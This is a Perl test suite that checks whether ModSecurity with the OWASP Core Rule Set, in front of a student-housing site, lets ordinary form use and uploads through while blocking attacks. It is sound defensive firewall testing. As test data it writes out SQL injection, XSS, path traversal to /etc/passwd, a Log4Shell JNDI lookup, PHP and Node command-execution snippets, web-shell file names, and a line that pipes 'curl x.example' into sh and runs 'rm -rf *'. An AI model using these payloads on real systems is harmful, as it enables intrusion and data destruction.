#!/usr/bin/env perl
# Proves that ModSecurity with the OWASP Core Rule Set, told what conf/modsecurity.conf.example says, lets through what people do on the site,
# and still turns attacks away.
use v5.36;
use FindBin;
use lib "$FindBin::Bin/../lib";
use Palace;
use Palace::Crawl;
use Palace::Httpd;
use Palace::SiteMap;
use Palace::Upload;
use Palace::Visitor;
use Palace::Walk;
use Test::More;

my ($modules) = Palace::Httpd::shared_conf() =~ m{"([^"]+)/mod_mpm_event\.so"};
my $example   = source() . '/conf/modsecurity.conf.example';
# Debian's, with its log where there is a folder.
my $recommended = write_file(scratch() . '/modsecurity.conf', read_file('/etc/modsecurity/modsecurity.conf-recommended') =~ s{^SecAuditLog .*}{}mr
    =~ s{^(SecUnicodeMapFile) }{$1 /etc/modsecurity/}mr);
my $data = scratch() . '/data';
mkdir $data;
chown((getpwnam 'www-data')[2, 3], $data) if !$>;
my %browser = ('User-Agent' => 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    Accept => 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', 'Accept-Language' => 'en-GB,en;q=0.5', 'Accept-Encoding' => 'identity');
my $walk = Palace::Walk->new(headers => \%browser, more => <<~"CONF");
    LoadModule unique_id_module "$modules/mod_unique_id.so"
    LoadModule security2_module "$modules/mod_security2.so"
    Include "$recommended"
    SecDataDir "$data"
    SecTmpDir "$data"
    SecAuditEngine Off
    Include "$example"
    Include /usr/share/modsecurity-crs/owasp-crs.load
    # The tests know their server by number, which browsers do not.
    SecRuleRemoveById 920350
    CONF
my ($database, $httpd) = ($walk->database, $walk->httpd);
my @as = $walk->at;

# What looks like an attack and is none.
my $prose = qq{It's the landlord's favourite; "select" any room from the list & drop in -- it's <b>great</b>!\r\nC:\\Windows and /etc/passwd are jokes; rent <= £120 pppw, union street, or 1=1 bathroom (sleep(5) minutes from uni).};
my $password = q{' or 1=1; drop table <script>alert(1)</script> ../../etc/passwd};

# What the firewall turned away since the last time it was asked: the rules that spoke against it, and what they had found, a text for each request.
my $heard = 0;
sub refusals () {
    my @all = grep { /ModSecurity: / } log_lines($httpd->log);
    my (%said, @refused);
    for (@all[$heard .. $#all]) {
        my ($id) = /\[unique_id "([^"]+)"\]/ or next;
        push @refused, $id if /Access denied/;
        push $said{$id}->@*, join ' ', /\[(id "\d+"|msg "[^"]*"|data "[^"]*"|uri "[^"]*")\]/g;
    }
    $heard = @all;
    return [map { join '; ', $said{$_}->@* } @refused];
}

# done('what', expected status, answer): nobody was turned away.
sub done ($what, $status, $answer) {
    is($answer->{status}, $status, $what);
    is_deeply(refusals(), [], "$what: not turned away");
    return $answer;
}

subtest 'looking around' => sub {
    my $crawl = Palace::Crawl->new(@as, most => 150)->from('/', '/sitemap.xml', '/robots.txt', '/properties.atom', '/favicon.ico');
    cmp_ok(scalar keys $crawl->answers->%*, '>', 100, 'many addresses');
    is_deeply([grep { $crawl->answers->{$_}{status} !~ /^(?:200|301|302|303)$/ } sort keys $crawl->answers->%*], [], 'all of them answer');
    is_deeply(refusals(), [], 'nobody was turned away');
    my $visitor = Palace::Visitor->new(@as);
    done("search: $_", 200, $visitor->ask("/properties?$_")) for 'city=Leeds&group_size=4&year=2026-27&household=Male&household=Female&ensuite=1&min_price=100&max_price=900&price_per=week&sort=price_asc',
        'city=Newcastle+upon+Tyne', 'city=King%27s+Lynn', 'city=St.%20Andrews%20%26%20Fife';
};

subtest 'accounts' => sub {
    my $visitor = Palace::Visitor->new(@as);
    done('signing up', 303, $visitor->submit('/signup', 'signup', email => "o'neil+rooms\@test.example", password => $password, terms => '1', accept_terms => '1'));
    done('forgotten password', 303, $visitor->submit('/password/forgot', 'forgot', email => 'landlord3@example.com'));
    done('a wrong password', 422, $visitor->submit('/login', 'login', email => 'landlord3@example.com', password => $password));
    done('a link from a mail', 200, $visitor->ask('/password/reset?token=' . 'aZ09_-' x 7));
};

my ($city, $prefix) = ($database->rows(q{select name, min(prefix) from cities join city_postcode_prefixes on city_id = id
    where is_active group by name order by name limit 1}))[0]->@*;
my %house = (title => q{Ann's "best" house; select one!}, letting_type => 'share', bedrooms_total => 2, gender_preference => 'Mixed', city => $city,
    house_number => '12-14', house_name => "O'Brien's", street_name => "St. John's Union Street", postcode => ($prefix =~ /\d$/ ? $prefix : "${prefix}1") . ' 1AB', description => $prose,
    feature1 => '<5 min to uni; cat /tv', feature2 => q{'quoted'}, youtube_url => 'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=1');

subtest 'what landlords do' => sub {
    my $visitor = Palace::Visitor->landlord('landlord1@example.com', 'palace-landlord-demo', @as);
    is_deeply(refusals(), [], 'logging in');
    my ($id) = header(done('a new house', 303, $visitor->submit('/landlord/houses/new', 'house', %house)), 'Location') =~ /house=(\d+)/;
    my $house = "/landlord/houses/$id";
    done('changed', 303, $visitor->submit("$house/edit", 'house', description => "$prose\n$prose"));
    done('a new room', 303, $visitor->submit("$house/rooms/new", 'room', name => "Ann's #1; --", price_pcm => '£1,200', bed_size => 'Double', description => $prose, room_size => q{12' x 10' (3m)}));
    done('the profile', 303, $visitor->submit('/landlord/profile', 'save', display_name => q{O'Neil & "Sons"; select}, bio => $prose, phone => '+44 (0)113 496 0000', website => 'https://www.example.com/rooms?id=1&x=../y'));
    done($_, 200, $visitor->ask($_)) for '/dashboard', '/landlord/houses', '/landlord/account', "$house/rooms";
    my ($note) = grep { /note/ } map { $_->[0] } $visitor->fields('/landlord/accreditations', 'accreditations');
    done('a scheme', 303, $visitor->submit('/landlord/accreditations', 'accreditations', $note =~ s/note/accreditation/r => 'true', $note => q{no. 1' or 1=1 -- <see> ../x}));
    done('taking everything along', 200, $visitor->submit('/landlord/account', 'export'));
    done('another address', 422, $visitor->submit('/landlord/account', 'email', current => $password, new_email => "o'neil\@test.example"));
    done('deleting the house', 303, $visitor->submit("$house/delete", 'delete_house'));
    done('logging out', 303, $visitor->submit('/logout', 'logout'));
};

# ---- every form there is, with every word that a rule might take for something else

my @words = (
    q{It's O'Neil's "best" -- or 1=1; select a, b from rooms}, q{' union select name from cities --}, q{sleep(5) minutes; drop table},
    q{<b>great</b> <script>alert(1)</script> <img src=x onerror=alert(1)>}, q{cat /etc/passwd; ls -la | sh `curl x.example` && rm -rf *}, q{../../etc/passwd C:\\Windows\\system.ini},
    q{<?php echo system('id'); ?>}, q{https://www.example.com/?a=1&b=../x}, q{${jndi:ldap://x.example/a} (&(uid=*)(userPassword=*))}, q{java.lang.Runtime.getRuntime()},
    q{require('child_process').exec('id')}, "T\xC5\xB7'r myfyrwyr; gr\xC3\xB6\xC3\x9Fer \"fa\xC3\xA7ade\" \xC2\xA395",
);

# What people call their files: browsers write quotes as %22.
my @names = ("O'Neil's kitchen.jpg", "K\xC3\xBCche & Bad (1).jpg", 'IMG_20261101_120000.jpg', 'DSC00001.JPG', 'WhatsApp Image 2026-11-01 at 10.00.00.jpeg', 'a;b=c.png',
    "\xC2\xA3450 pppw; t\xC5\xB7 %22newydd%22.webp", 'select from where.jpg', '..hidden...jpg', 'http---x.example-a.jpg', "\xE5\xAF\xBF\xE5\x8F\xB8.jpg", 'C:\Users\Ann\My photo.jpg');

# So much of a text as the field takes, in whole characters; lines end as browsers end them.
sub fitting ($text, $most) {
    utf8::decode($text);
    $text = substr $text, 0, $most // 100;
    $text =~ s/\s+\z//;
    utf8::encode($text);
    return $text;
}

sub words_for ($field, $turn) {
    return fitting(++(state $names) . ": $words[$turn % @words]", $field->{most}) if $field->{name} eq 'name';
    return fitting(join("\r\n\r\n", @words[$turn % @words .. $#words], @words, @words), $field->{most}) if Palace::Walk::kind($field) eq 'LINES';
    return fitting($words[$turn % @words], $field->{most});
}

# A picture, and behind it bytes as pictures have them: line ends, and what looks like the line between two parts.
sub camera_bytes () { return Palace::Upload::png(40, 30, ++state $seeds) . "\r\n--palace\r\n\n--\n\r\r\n" . join('', map { chr } 0 .. 255) }

# Is any value good, as far as the form can tell? Some are looked up by the database or the form's code.
sub is_free ($field) {
    return !$field->{hidden} && Palace::Walk::kind($field) =~ /^(?:TEXT|LINES|FILES|EMAIL|URL)$/
        && $field->{name} !~ /^(?:city|postcode\w*|house_number|phone|youtube_url|confirm_text)$/;
}

sub free_value ($form, $field, $good, $turn) {
    my $kind = Palace::Walk::kind($field);
    my $name = $names[$turn % @names];
    return words_for($field, $turn) if $kind =~ /^(?:TEXT|LINES)$/;
    return $field->{accept} =~ /pdf/ ? {%$good, name => $name =~ s/\.\w+$/.pdf/r} : {name => $name, content => camera_bytes()} if $kind eq 'FILES';
    return 'https://www.example.com/rooms?id=1&x=../y' if $kind eq 'URL';
    return $form->{name} =~ /^(?:login|forgot)$/ ? $good : "o'neil+rooms" . ++(state $addresses) . '@test.example';
}

sub filled_freely ($sender, $turn) {
    my %free = map { is_free($_) ? (Palace::Walk::sent_name($_) => $_) : () } $sender->{form}{fields}->@*;
    return map { my ($name, $good) = @$_; [$name, $free{$name} ? free_value($sender->{form}, $free{$name}, $good, $turn++) : $good] } $sender->{pairs}->@*;
}

# The same with passwords that are wrong; nothing comes of these. Fields beside each other have words that follow each other, so all have their turn.
sub unsealed ($sender, $turn) {
    my %is_password = map { Palace::Walk::kind($_) eq 'PASSWORD' ? ($_->{name} => 1) : () } $sender->{form}{fields}->@*;
    return map { my ($name, $value) = @$_; [$name, $name eq 'form_token' ? '' : $is_password{$name} ? "$password $words[$turn]" : $value] } filled_freely($sender, $turn);
}

# The links of mails are not known here, nor what confirms that a scheme goes; what one takes along is not another page.
my %answers = (confirm => 422, reset => 422, confirm_new_email => 422, merge => 422, export => 200);

for my $sending (Palace::SiteMap::sendings()) {
    my ($row, $form) = @$sending;
    subtest "$form->{name} at $row->{path}" => sub {
        my $sender = $walk->sender($row, $form);
        done('is sent', $answers{$form->{name}} // 303, $sender->{visitor}->post($sender->{path}, Palace::Visitor::body(filled_freely($sender, 0))));
        my $is_written = grep { is_free($_) || Palace::Walk::kind($_) eq 'PASSWORD' } $form->{fields}->@*;
        $sender->{visitor}->post($sender->{path}, Palace::Visitor::body(unsealed($sender, $_))) for $is_written ? (0, 3, 6, 9) : ();
        is_deeply(refusals(), [], 'whatever is said there');
    };
}

subtest 'photos as cameras make them' => sub {
    my $landlord = $walk->landlord;
    my $photos   = "/landlord/houses/$landlord->{house}[0]/photos";
    $database->sql("delete from house_images where house_id = $landlord->{house}[0]");
    my @full = map { [camera_bytes() . substr("\n--$_\r\n--\r" x 700_000, 0, 5_200_000), $names[$_]] } 0 .. 4;
    my $answer = done('a full set of the largest', 303, Palace::Upload::send_files($landlord->{visitor}, $photos, 'pictures', 'photos', @full));
    is_deeply([map { $_->[1] } Palace::Upload::results($landlord->{visitor}, $answer)], [('taken') x 5], 'all are taken');
};

subtest 'what admins look for' => sub {
    my $admin = $walk->admin;
    for my $page (qw(landlords houses audit audit.csv mail students)) {
        $admin->ask("/admin/$page?" . Palace::Visitor::body([q => fitting($_, 60)], $page =~ /audit/ ? [actor => fitting($_, 60)] : ())) for grep { !m{\.\./} } @words;
        is_deeply(refusals(), [], $page);
    }
    my ($form) = map { $_->[1] } grep { $_->[1]{name} eq 'settings' } Palace::SiteMap::sendings();
    my %most  = map { $_->{name} => $_->{most} } $form->{fields}->@*;
    my $terms = join "\n\n", '# Terms', map { "## $_. *Of rooms*\n\n" . join "\n", map { "- [$_](https://www.example.com/terms?a=1&b=2) $_" } @words } 1 .. 20;
    my %texts = (terms_md => fitting($terms, $most{terms_md}), about_md => fitting("\xC5\xB4\xC5\xB7 \xC3\xA2" x 5_000, $most{about_md}));
    cmp_ok(length Palace::Visitor::body(map { [$_ => $texts{$_}] } keys %texts), '>', 65_536, 'terms of many pages, and all that the site is');
    done('are taken', 303, $admin->submit('/admin/settings', 'settings', %texts));
};

subtest 'many rooms at once' => sub {
    my $landlord = $walk->landlord;
    my @rooms = map { [room => $_] } 1 .. 1_900;
    $landlord->{visitor}->post('/landlord/portfolio/edit/apply', Palace::Visitor::body(@rooms));
    is_deeply(refusals(), [], 'are not too many');
};

# ---- attacks

# turned_away('what', answer): by the firewall.
sub turned_away ($what, $answer) {
    my $said = refusals()->@*;
    return ok($answer->{status} =~ /^40[03]$/ && $said == 1, "turned away: $what") || diag("$answer->{status}, $said refusals");
}

subtest 'attacks' => sub {
    my $visitor = Palace::Visitor->new(@as);
    turned_away($_, $visitor->ask($_)) for '/properties?city=%3Cscript%3Ealert(1)%3C/script%3E', '/properties?city=%27%20or%201=1--%20', '/about?x=../../../../etc/passwd',
        '/properties?sort=;cat%20/etc/passwd', '/?x=${jndi:ldap://x.example/a}', '/properties?description=%3Cscript%3Ealert(1)%3C/script%3E', '/about?reason=%27%20or%201=1--%20',
        '/login?password=../../etc/passwd', '/about?q=;cat%20/etc/passwd';
    turned_away('a cookie that is not ours', $visitor->ask('/', headers => {Cookie => "other=' or 1=1 -- union select"}));
    turned_away('a scanner', $visitor->ask('/', headers => {'User-Agent' => 'sqlmap/1.7'}));
    turned_away('text in a form of its own that is no text there', $visitor->post('/login', Palace::Visitor::body([email => 'a@b.example'], [next => q{' union select password_hash from landlords --}])));
};

subtest 'attacks on addresses that take text and files' => sub {
    my ($admin, $landlord) = ($walk->admin, $walk->landlord);
    my ($visitor, $house) = ($landlord->{visitor}, "/landlord/houses/$landlord->{house}[0]");
    my @seal = Palace::Upload::seal($visitor, "$house/photos", 'pictures');
    turned_away("a file called $_", Palace::Upload::post($visitor, "$house/photos", @seal, [photos => camera_bytes(), $_])) for 'shell.php', 'x.phtml', '.htaccess';
    my ($boundary, $body) = Palace::Upload::body(@seal, [photos => camera_bytes(), 'a.jpg']);
    turned_away('a form with something before its first part', Palace::Upload::post_bytes($visitor, "$house/photos", $boundary, "hidden\r\n$body"));
    turned_away($_, $visitor->ask("$house/$_")) for 'photos?result=../../etc/passwd', 'edit?title=%3Cscript%3Ealert(1)%3C/script%3E', 'rooms?name=;cat%20/etc/passwd';
    turned_away("$_->[0] of a house", $visitor->post("$house/edit", Palace::Visitor::body($_))) for [city => q{' or 1=1 -- union select}], [letting_type => '<script>alert(1)</script>'],
        [other => '../../../etc/passwd'];
    turned_away("an admin's $_", $admin->ask("/admin/$_")) for 'landlords?state=%27%20union%20select%201,2--%20', 'audit?from=../../etc/passwd', 'settings?terms=%3Cscript%3Ealert(1)%3C/script%3E',
        'houses?sort=;cat%20/etc/passwd', 'students?q=../../etc/passwd';
    turned_away("an admin's $_->[0]", $admin->post("/admin/settings", Palace::Visitor::body($_))) for [version => q{1' or 1=1 -- union select}], [other => '<?php system("id"); ?>'];
};

finish(qr/ModSecurity: (?:Access denied|Warning)/);
